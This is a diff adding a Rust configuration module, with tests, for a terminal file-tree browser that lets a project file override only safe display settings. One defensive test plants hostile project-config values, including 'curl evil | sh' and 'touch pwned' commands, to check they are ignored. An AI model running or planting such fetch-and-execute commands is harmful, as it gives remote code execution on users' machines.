@@ -0,0 +1,647 @@
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use filetree::file_tree::{glob_match, DirectoryOrder, SortOrder};
+use ratatui::style::Color;
+use serde::Deserialize;
+
+/// User configuration, loaded from `config.toml` in the config directory
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct Config {
+    pub show_hidden: bool,
+    pub git: bool,
+    pub default_command: Option<String>,
+    /// Expand directories up to this depth on startup
+    pub depth: Option<usize>,
+    /// Command used to retry operations that failed with permission denied
+    pub elevate_command: String,
+    /// Copy extended attributes along with files
+    pub preserve_xattrs: bool,
+    /// Show the file size column in the tree
+    pub show_size: bool,
+    /// Show the modification time column in the tree
+    pub show_mtime: bool,
+    /// Show the permissions and owner column in the tree
+    pub show_permissions: bool,
+    /// Start in the detailed list view (all columns that fit)
+    pub detail_view: bool,
+    /// Start in the borderless layout with a one-line status bar
+    pub compact: bool,
+    /// Start in the Miller columns layout (parent / current / preview)
+    pub miller_columns: bool,
+    /// Give marked rows a distinct background color
+    pub highlight_marked: bool,
+    /// Move to the next entry after marking one with `Space`
+    pub mark_advance: bool,
+    /// Allow expanding symlinked directories (cycles are never followed)
+    pub follow_symlinks: bool,
+    /// Where directories go among their siblings: `first`, `last` or `mixed`
+    pub sort_directories: DirectoryOrder,
+    /// List dotfiles before other entries
+    pub sort_hidden_first: bool,
+    /// Sort numbers in names by value (`file2` before `file10`)
+    pub natural_sort: bool,
+    /// Ignore letter case when sorting names
+    pub sort_case_insensitive: bool,
+    /// Hide directories with nothing visible inside (e.g. after filtering)
+    pub hide_empty_dirs: bool,
+    /// Hide entries whose name matches one of these globs (e.g. `*.pyc`,
+    /// `node_modules`), case-insensitive
+    pub ignore: Vec<String>,
+    /// Recursive expansion (`L`, `E`) stops this many levels below the expanded directory
+    pub expand_max_depth: usize,
+    /// Recursive expansion (`L`, `E`) gives up when more entries than this would be shown
+    pub expand_max_entries: usize,
+    /// Drag-out helper (e.g. `dragon-drop --and-exit`); by default the first
+    /// of `ripdrag`, `dragon-drop` and `dragon` that is installed
+    pub drag_command: Option<String>,
+    /// Command that shows a path in the GUI file manager (the path is appended);
+    /// by default `open -R` on macOS, `explorer /select,` on Windows, elsewhere
+    /// the freedesktop file manager or `xdg-open`
+    pub reveal_command: Option<String>,
+    /// Commands `Enter` runs for matching files, checked in order
+    pub open_with: Vec<CommandRule>,
+    /// Commands whose output previews matching files, checked in order
+    pub previewers: Vec<CommandRule>,
+    /// Neovim server (`nvim --server`) that Ctrl-e opens files in; `$NVIM`
+    /// takes precedence when ft runs inside a Neovim terminal
+    pub nvim_server: Option<String>,
+    /// Reopen each root directory with the expansion, selection, hidden files,
+    /// quick preview and preview wrapping it had when ft last exited
+    pub restore_session: bool,
+    /// Reload the tree and git status when the terminal regains focus
+    pub refresh_on_focus: bool,
+    /// Number the lines of previewed files (toggled with `#`)
+    pub preview_line_numbers: bool,
+    /// Mark lines that differ from `HEAD` in previews of tracked files
+    pub preview_git_gutter: bool,
+    /// Color well-known files (Dockerfile, Makefile, Cargo.toml, README, ...) without git changes
+    pub special_file_colors: bool,
+    /// Colors for entries without git changes, checked in order
+    pub color_rules: Vec<ColorRule>,
+    /// Icons replacing or adding to the built-in ones
+    pub icons: IconConfig,
+    /// Which operations ask before going ahead
+    pub confirm: ConfirmPolicy,
+    /// Globs of paths that are never deleted, moved or renamed (e.g. `.git/**`,
+    /// `/etc/**`). Patterns starting with `/` or `~/` match absolute paths, others
+    /// match paths relative to the tree root, or the name if they have no `/`.
+    pub protected_paths: Vec<String>,
+}
+
+/// Operations that ask for confirmation first
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct ConfirmPolicy {
+    /// Ask before deleting
+    pub delete: bool,
+    /// Ask before a rename replaces an existing entry
+    pub overwrite: bool,
+    /// Ask before opening more than this many files at once in the editor
+    /// (`O`, Ctrl-e); 0 never asks
+    pub open_files: usize,
+    /// Ask before running a command on more than this many marked files; 0
+    /// never asks
+    pub command_files: usize,
+    /// Review batch deletes and moves of more than this many items in a full
+    /// list where items can be left out; 0 never does
+    pub plan: usize,
+    /// Warn before copying or deleting directories holding more than this
+    /// many megabytes or files; 0 never does
+    pub large_mb: u64,
+    pub large_files: u64,
+}
+
+impl Default for ConfirmPolicy {
+    fn default() -> Self {
+        Self {
+            delete: true,
+            overwrite: true,
+            open_files: 20,
+            command_files: 10,
+            plan: 8,
+            large_mb: 1024,
+            large_files: 10_000,
+        }
+    }
+}
+
+/// Color for entries whose name matches `pattern` (a glob such as `*.rs`,
+/// case-insensitive), optionally only for executable files
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct ColorRule {
+    #[serde(default = "match_all")]
+    pub pattern: String,
+    #[serde(default)]
+    pub executable: bool,
+    pub color: RuleColor,
+}
+
+fn match_all() -> String {
+    "*".to_string()
+}
+
+impl ColorRule {
+    pub fn matches(&self, name: &str, executable: bool) -> bool {
+        (executable || !self.executable)
+            && glob_match(&self.pattern.to_lowercase(), &name.to_lowercase())
+    }
+}
+
+/// A color name (`red`, `lightblue`, `darkgray`, ...), `#rrggbb` or a 256-color index
+#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
+#[serde(try_from = "String")]
+pub struct RuleColor(pub Color);
+
+impl TryFrom<String> for RuleColor {
+    type Error = String;
+
+    fn try_from(name: String) -> Result<Self, Self::Error> {
+        name.parse()
+            .map(RuleColor)
+            .map_err(|_| format!("unknown color {:?}", name))
+    }
+}
+
+/// Icon overrides: an exact file name match wins over an extension match
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct IconConfig {
+    /// Icon per extension, without the dot (case-insensitive)
+    pub extensions: HashMap<String, String>,
+    /// Icon per exact file name (e.g. `Dockerfile`, `.gitignore`)
+    pub filenames: HashMap<String, String>,
+}
+
+/// Command for files whose name matches `pattern` (a glob such as `*.md`,
+/// case-insensitive)
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct CommandRule {
+    pub pattern: String,
+    pub command: String,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            show_hidden: false,
+            git: true,
+            default_command: None,
+            depth: None,
+            elevate_command: "sudo".to_string(),
+            preserve_xattrs: false,
+            show_size: false,
+            show_mtime: false,
+            show_permissions: false,
+            detail_view: false,
+            compact: false,
+            miller_columns: false,
+            highlight_marked: true,
+            mark_advance: true,
+            follow_symlinks: true,
+            sort_directories: DirectoryOrder::First,
+            sort_hidden_first: false,
+            natural_sort: true,
+            sort_case_insensitive: false,
+            hide_empty_dirs: false,
+            ignore: Vec::new(),
+            expand_max_depth: 16,
+            expand_max_entries: 50_000,
+            drag_command: None,
+            reveal_command: None,
+            open_with: Vec::new(),
+            previewers: Vec::new(),
+            nvim_server: None,
+            restore_session: true,
+            refresh_on_focus: true,
+            preview_line_numbers: true,
+            preview_git_gutter: true,
+            special_file_colors: true,
+            color_rules: Vec::new(),
+            icons: IconConfig::default(),
+            confirm: ConfirmPolicy::default(),
+            protected_paths: Vec::new(),
+        }
+    }
+}
+
+/// Project config read from the root directory, layered over the global config
+pub const PROJECT_FILE: &str = ".filetree.toml";
+
+/// Keys a project config may set. Anything that runs a command or loosens a
+/// safeguard (`open_with`, `previewers`, `elevate_command`, `protected_paths`,
+/// `[confirm]`, ...) comes only from the global config, so browsing a cloned
+/// repository cannot run what it ships.
+const PROJECT_KEYS: &[&str] = &[
+    "show_hidden",
+    "git",
+    "depth",
+    "show_size",
+    "show_mtime",
+    "show_permissions",
+    "detail_view",
+    "compact",
+    "miller_columns",
+    "highlight_marked",
+    "mark_advance",
+    "follow_symlinks",
+    "sort_directories",
+    "sort_hidden_first",
+    "natural_sort",
+    "sort_case_insensitive",
+    "hide_empty_dirs",
+    "ignore",
+    "expand_max_depth",
+    "expand_max_entries",
+    "preview_line_numbers",
+    "preview_git_gutter",
+    "special_file_colors",
+    "color_rules",
+    "icons",
+];
+
+impl Config {
+    /// Load `global` with `project` layered on top. Keys in the project file
+    /// replace global ones, except lists (`ignore`, `color_rules`), whose
+    /// project entries go first, and tables (`[icons]`), which are merged.
+    /// Project keys outside `PROJECT_KEYS` are ignored.
+    pub fn load_layers(global: Option<&Path>, project: Option<&Path>) -> anyhow::Result<Self> {
+        let mut table = toml::Table::new();
+        let layers = global.map(|path| (path, false));
+        for (path, is_project) in layers.into_iter().chain(project.map(|path| (path, true))) {
+            let content = fs::read_to_string(path)
+                .map_err(|e| anyhow::anyhow!("Cannot read config {}: {}", path.display(), e))?;
+            // Check each file on its own so errors name the right one
+            Self::parse(&content)
+                .map_err(|e| anyhow::anyhow!("Invalid config {}: {}", path.display(), e))?;
+            let mut layer: toml::Table = toml::from_str(&content)?;
+            if is_project {
+                layer.retain(|key, _| PROJECT_KEYS.contains(&key));
+            }
+            merge(&mut table, layer);
+        }
+        Ok(toml::Value::Table(table).try_into()?)
+    }
+
+    pub fn parse(content: &str) -> anyhow::Result<Self> {
+        Ok(toml::from_str(content)?)
+    }
+
+    /// Whether `path` matches one of `protected_paths`. A path is also protected if
+    /// something below it is, e.g. `.git` itself for `.git/**`.
+    pub fn is_protected(&self, path: &Path, root: &Path) -> bool {
+        let home = std::env::var_os("HOME").map(PathBuf::from);
+        let absolute = path.to_string_lossy();
+        let relative = path
+            .strip_prefix(root)
+            .ok()
+            .map(|p| p.to_string_lossy().to_string());
+        let name = path
+            .file_name()
+            .map(|n| n.to_string_lossy().to_string())
+            .unwrap_or_default();
+        self.protected_paths.iter().any(|pattern| {
+            let pattern = match (pattern.strip_prefix("~/"), &home) {
+                (Some(rest), Some(home)) => home.join(rest).to_string_lossy().to_string(),
+                _ => pattern.clone(),
+            };
+            let text = if pattern.starts_with('/') {
+                absolute.to_string()
+            } else if pattern.contains('/') {
+                match &relative {
+                    Some(relative) => relative.clone(),
+                    None => return false,
+                }
+            } else {
+                name.clone()
+            };
+            glob_match(&pattern, &text) || glob_match(&pattern, &format!("{}/", text))
+        })
+    }
+
+    pub fn sort_order(&self) -> SortOrder {
+        SortOrder {
+            directories: self.sort_directories,
+            hidden_first: self.sort_hidden_first,
+            natural: self.natural_sort,
+            case_insensitive: self.sort_case_insensitive,
+        }
+    }
+}
+
+fn merge(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Array(old)), toml::Value::Array(mut new)) => {
+                new.append(old);
+                *old = new;
+            }
+            (Some(toml::Value::Table(old)), toml::Value::Table(new)) => merge(old, new),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+pub fn config_dir() -> Option<PathBuf> {
+    if let Ok(xdg_config) = std::env::var("XDG_CONFIG_HOME") {
+        Some(PathBuf::from(xdg_config).join("filetree"))
+    } else if let Ok(home) = std::env::var("HOME") {
+        Some(PathBuf::from(home).join(".config").join("filetree"))
+    } else {
+        None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_empty_uses_defaults() {
+        let config = Config::parse("").unwrap();
+        assert!(!config.show_hidden);
+        assert!(config.git);
+        assert!(config.default_command.is_none());
+        assert!(config.depth.is_none());
+        assert_eq!(config.elevate_command, "sudo");
+        assert!(!config.preserve_xattrs);
+        assert!(!config.show_size);
+        assert!(!config.show_mtime);
+        assert!(!config.show_permissions);
+        assert!(!config.detail_view);
+        assert!(!config.compact);
+        assert!(!config.miller_columns);
+        assert!(config.highlight_marked);
+        assert!(config.mark_advance);
+        assert!(config.follow_symlinks);
+        assert_eq!(config.sort_directories, DirectoryOrder::First);
+        assert!(!config.sort_hidden_first);
+        assert!(config.natural_sort);
+        assert!(!config.sort_case_insensitive);
+        assert!(!config.hide_empty_dirs);
+        assert_eq!(config.expand_max_depth, 16);
+        assert_eq!(config.expand_max_entries, 50_000);
+        assert!(config.drag_command.is_none());
+        assert!(config.reveal_command.is_none());
+        assert!(config.open_with.is_empty());
+        assert!(config.previewers.is_empty());
+        assert!(config.nvim_server.is_none());
+        assert!(config.restore_session);
+        assert!(config.refresh_on_focus);
+        assert!(config.preview_line_numbers);
+        assert!(config.preview_git_gutter);
+        assert!(config.special_file_colors);
+        assert!(config.color_rules.is_empty());
+        assert_eq!(config.confirm, ConfirmPolicy::default());
+        assert!(config.protected_paths.is_empty());
+    }
+
+    #[test]
+    fn test_parse_values() {
+        let config = Config::parse(
+            r##"
+            show_hidden = true
+            git = false
+            default_command = "code <filepath>"
+            depth = 2
+            elevate_command = "doas"
+            preserve_xattrs = true
+            show_size = true
+            show_mtime = true
+            show_permissions = true
+            detail_view = true
+            compact = true
+            miller_columns = true
+            highlight_marked = false
+            mark_advance = false
+            follow_symlinks = false
+            sort_directories = "mixed"
+            sort_hidden_first = true
+            natural_sort = false
+            sort_case_insensitive = true
+            hide_empty_dirs = true
+            expand_max_depth = 3
+            expand_max_entries = 100
+            drag_command = "dragon-drop --and-exit"
+            reveal_command = "thunar"
+
+            nvim_server = "/tmp/nvim.sock"
+            restore_session = false
+            refresh_on_focus = false
+            preview_line_numbers = false
+            preview_git_gutter = false
+            special_file_colors = false
+            protected_paths = [".git/**", "/etc/**"]
+
+            [[open_with]]
+            pattern = "*.md"
+            command = "glow <filepath>"
+
+            [[previewers]]
+            pattern = "*.pdf"
+            command = "pdftotext <filepath> -"
+
+            [[color_rules]]
+            pattern = "*.test.ts"
+            color = "darkgray"
+
+            [[color_rules]]
+            executable = true
+            color = "#00ff00"
+
+            [icons.extensions]
+            rs = "R"
+
+            [icons.filenames]
+            Dockerfile = "D"
+
+            [confirm]
+            delete = false
+            open_files = 5
+            command_files = 0
+            plan = 3
+            large_mb = 0
+            large_files = 500
+            "##,
+        )
+        .unwrap();
+        assert!(config.show_hidden);
+        assert!(!config.git);
+        assert_eq!(config.default_command.as_deref(), Some("code <filepath>"));
+        assert_eq!(config.depth, Some(2));
+        assert_eq!(config.elevate_command, "doas");
+        assert!(config.preserve_xattrs);
+        assert!(config.show_size);
+        assert!(config.show_mtime);
+        assert!(config.show_permissions);
+        assert!(config.detail_view);
+        assert!(config.compact);
+        assert!(config.miller_columns);
+        assert!(!config.highlight_marked);
+        assert!(!config.mark_advance);
+        assert!(!config.follow_symlinks);
+        assert_eq!(config.sort_directories, DirectoryOrder::Mixed);
+        assert!(config.sort_hidden_first);
+        assert!(!config.natural_sort);
+        assert!(config.sort_case_insensitive);
+        assert!(config.hide_empty_dirs);
+        assert_eq!(config.expand_max_depth, 3);
+        assert_eq!(config.expand_max_entries, 100);
+        assert_eq!(
+            config.drag_command.as_deref(),
+            Some("dragon-drop --and-exit")
+        );
+        assert_eq!(config.reveal_command.as_deref(), Some("thunar"));
+        assert_eq!(
+            config.open_with,
+            vec![CommandRule {
+                pattern: "*.md".to_string(),
+                command: "glow <filepath>".to_string(),
+            }]
+        );
+        assert_eq!(config.previewers[0].command, "pdftotext <filepath> -");
+        assert_eq!(config.nvim_server.as_deref(), Some("/tmp/nvim.sock"));
+        assert!(!config.restore_session);
+        assert!(!config.refresh_on_focus);
+        assert!(!config.preview_line_numbers);
+        assert!(!config.preview_git_gutter);
+        assert!(!config.special_file_colors);
+        assert_eq!(config.color_rules.len(), 2);
+        assert_eq!(config.color_rules[0].color, RuleColor(Color::DarkGray));
+        assert!(config.color_rules[0].matches("App.Test.ts", false));
+        assert!(!config.color_rules[0].matches("app.ts", false));
+        assert_eq!(
+            config.color_rules[1].color,
+            RuleColor(Color::Rgb(0, 255, 0))
+        );
+        assert!(config.color_rules[1].matches("run.sh", true));
+        assert!(!config.color_rules[1].matches("run.sh", false));
+        assert_eq!(config.icons.extensions["rs"], "R");
+        assert_eq!(config.icons.filenames["Dockerfile"], "D");
+        assert_eq!(
+            config.confirm,
+            ConfirmPolicy {
+                delete: false,
+                overwrite: true,
+                open_files: 5,
+                command_files: 0,
+                plan: 3,
+                large_mb: 0,
+                large_files: 500,
+            }
+        );
+        assert_eq!(config.protected_paths, [".git/**", "/etc/**"]);
+    }
+
+    #[test]
+    fn test_is_protected() {
+        let config = Config {
+            protected_paths: vec![
+                ".git/**".to_string(),
+                "/etc/**".to_string(),
+                "*.key".to_string(),
+            ],
+            ..Config::default()
+        };
+        let root = Path::new("/work/repo");
+        assert!(config.is_protected(Path::new("/work/repo/.git"), root));
+        assert!(config.is_protected(Path::new("/work/repo/.git/config"), root));
+        assert!(!config.is_protected(Path::new("/work/repo/.github"), root));
+        assert!(config.is_protected(Path::new("/etc/hosts"), root));
+        assert!(config.is_protected(Path::new("/etc"), root));
+        assert!(config.is_protected(Path::new("/work/repo/certs/server.key"), root));
+        assert!(!config.is_protected(Path::new("/work/repo/src/main.rs"), root));
+        assert!(!config.is_protected(Path::new("/other/.git"), root));
+    }
+
+    #[test]
+    fn test_parse_invalid() {
+        assert!(Config::parse("show_hidden = \"yes\"").is_err());
+        assert!(Config::parse("sort_directories = \"sideways\"").is_err());
+        let error =
+            Config::parse("[[color_rules]]\npattern = \"*.rs\"\ncolor = \"rust\"\n").unwrap_err();
+        assert!(error.to_string().contains("unknown color"));
+    }
+
+    #[test]
+    fn test_project_layer_overrides_global() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let global = dir.path().join("config.toml");
+        let project = dir.path().join(PROJECT_FILE);
+        fs::write(
+            &global,
+            "show_size = true\nignore = [\"*.pyc\"]\n\
+             [icons.extensions]\nrs = \"R\"\n",
+        )
+        .unwrap();
+        fs::write(
+            &project,
+            "show_mtime = true\nignore = [\"node_modules\"]\n\
+             [icons.extensions]\nmd = \"M\"\n",
+        )
+        .unwrap();
+
+        let config = Config::load_layers(Some(&global), Some(&project)).unwrap();
+        assert!(config.show_size);
+        assert!(config.show_mtime);
+        assert_eq!(config.ignore, vec!["node_modules", "*.pyc"]);
+        assert_eq!(config.icons.extensions.len(), 2);
+
+        let config = Config::load_layers(None, Some(&project)).unwrap();
+        assert!(!config.show_size);
+
+        fs::write(&project, "show_size = 1\n").unwrap();
+        let error = Config::load_layers(Some(&global), Some(&project)).unwrap_err();
+        assert!(error.to_string().contains(PROJECT_FILE));
+    }
+
+    #[test]
+    fn test_project_layer_cannot_run_commands() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let global = dir.path().join("config.toml");
+        let project = dir.path().join(PROJECT_FILE);
+        fs::write(
+            &global,
+            "default_command = \"vim <filepath>\"\nprotected_paths = [\".git/**\"]\n",
+        )
+        .unwrap();
+        fs::write(
+            &project,
+            r#"
+            default_command = "curl evil | sh"
+            elevate_command = "sh -c 'curl evil | sh' --"
+            reveal_command = "touch pwned"
+            nvim_server = "/tmp/evil.sock"
+            protected_paths = []
+            show_hidden = true
+
+            [[previewers]]
+            pattern = "*"
+            command = "touch pwned"
+
+            [[open_with]]
+            pattern = "*"
+            command = "touch pwned"
+
+            [confirm]
+            delete = false
+            "#,
+        )
+        .unwrap();
+
+        let config = Config::load_layers(Some(&global), Some(&project)).unwrap();
+        assert!(config.show_hidden);
+        assert_eq!(config.default_command.as_deref(), Some("vim <filepath>"));
+        assert_eq!(config.elevate_command, "sudo");
+        assert!(config.reveal_command.is_none());
+        assert!(config.nvim_server.is_none());
+        assert!(config.previewers.is_empty());
+        assert!(config.open_with.is_empty());
+        assert_eq!(config.protected_paths, [".git/**"]);
+        assert!(config.confirm.delete);
+    }
+}